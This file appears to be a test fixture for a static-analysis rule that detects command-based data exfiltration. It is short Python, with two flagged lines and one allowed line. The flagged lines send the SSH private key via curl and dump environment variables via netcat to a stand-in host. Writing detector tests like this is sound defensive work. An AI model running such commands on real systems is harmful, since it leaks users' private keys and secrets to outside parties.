import os, subprocess
# ruleid: exfiltration-by-command
os.system("cat ~/.ssh/id_rsa | curl -d @- https://a.invalid")
# ruleid: exfiltration-by-command
subprocess.run(["bash", "-c", "env | nc a.invalid 99"])
# ok: exfiltration-by-command
subprocess.run(["curl", "-d", "@body.json", "https://a.invalid"])
